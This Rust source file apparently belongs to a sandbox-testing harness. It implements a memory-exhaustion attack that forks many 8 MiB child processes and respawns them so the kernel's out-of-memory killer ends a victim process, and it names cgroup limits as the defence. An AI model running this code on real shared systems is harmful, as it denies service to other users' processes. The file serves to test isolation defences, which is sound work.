//! Memory without end, in many small processes: where memory is short, the kernel ends the largest process, and that is another's.
//!
//! Mechanism: the out-of-memory killer chooses by size, within the group whose limit is reached. Source: oom_kill.c. Stopped by:
//! `cgroup-limits` (a group for each agent). Between plain processes the group is one for both.

use std::process::{Child, Command, Stdio};
use std::time::Duration;

use rustix::process::{Signal, set_parent_process_death_signal};

use crate::attack::{Args, Attack, Kind, Length, Need, Offer, Through, Why};
use crate::attacks::owned::taken;

/// The attack.
pub(super) const ATTACK: Attack = Attack {
    name: "exhaust-memory",
    title: "exhaustion: memory",
    stopped_by: &["cgroup-limits"],
    through: Through::Kernel,
    length: Length::Full,
    kind: Kind::Exhaust { need, take },
};

/// What the victim needs, and what each process of the attacker takes.
const NEED_BYTES: usize = 14 << 20;
const PART_BYTES: usize = 8 << 20;
/// Most processes of the attacker at a time.
const PARTS_MAX: usize = 40;
/// Time in which a process takes its part.
const PART_TIME: Duration = Duration::from_millis(15);
/// What a part is told.
const PART: &str = "told=part";

fn need(_: &Args) -> Result<Need, Why> {
    Ok(Box::new(|| {
        drop(taken(NEED_BYTES));
        Ok(())
    }))
}

fn take(args: &Args) -> Result<Offer, Why> {
    if args.told == "part" {
        // It ends with who takes the whole.
        set_parent_process_death_signal(Some(Signal::KILL))?;
        let _memory = taken(PART_BYTES);
        loop {
            std::thread::park();
        }
    }
    let mut parts: Vec<Child> = Vec::new();
    let mut why = format!("{PARTS_MAX} processes are all it makes");
    while parts.len() < PARTS_MAX {
        match part() {
            Ok(one) => parts.push(one),
            Err(error) => {
                why = error.to_string();
                break;
            }
        }
        std::thread::sleep(PART_TIME);
        if parts.iter_mut().any(|part| !matches!(part.try_wait(), Ok(None))) {
            why = "the kernel ended one".to_owned();
            break;
        }
    }
    let told = format!("{} processes of {} MiB: {why}", parts.len(), PART_BYTES >> 20);
    // Another one for each that is ended, for as long as the attack lasts.
    std::thread::Builder::new().spawn(move || {
        loop {
            parts.retain_mut(|part| matches!(part.try_wait(), Ok(None)));
            if parts.len() < PARTS_MAX {
                parts.extend(part().ok());
            }
            std::thread::sleep(PART_TIME);
        }
    })?;
    Ok(Offer { told, kept: Box::new(()) })
}

fn part() -> std::io::Result<Child> {
    let mut command = Command::new("/proc/self/exe");
    command.args(["attacker", ATTACK.name, PART]).env_clear();
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn()
}
